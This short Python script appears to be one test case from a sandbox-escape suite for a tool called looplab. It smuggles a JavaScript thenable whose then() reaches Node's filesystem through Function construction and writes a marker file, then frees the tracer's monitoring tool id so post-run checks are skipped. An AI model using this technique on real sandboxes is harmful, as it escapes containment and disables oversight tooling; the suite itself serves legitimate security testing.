# Attack: leave a promise's `then` for JavaScript to call after the run, then break the tracer's own end of the run (free its monitoring tool), so that whatever the worker does after a run that ends well is skipped. Where Function may make code (Node), then() leaves a marker file.
# Prints "armed: ..." when the promise was made ("blocked: ..." when it could not be); the run itself then ends broken.
import asyncio, gc, sys


class Thenable:
    def then(self, resolve, reject):
        resolve.constructor("globalThis.process?.getBuiltinModule?.('node:fs')"
                            "?.writeFileSync('/tmp/looplab-attack-32-escaped', 'then() ran after a broken run')")()


async def main():
    gc.unfreeze()
    found = [o for o in gc.get_objects() if type(o).__name__ == "Js2PyConverter"]
    if not found:
        print("blocked: a converter to make the promise with: LookupError")
        return
    sys._looplab_attack_keep = found[0].js2py_convert(Thenable())
    print("armed: a plain then(), before the end of the run is broken")


asyncio.run(main())
sys.monitoring.free_tool_id(4)
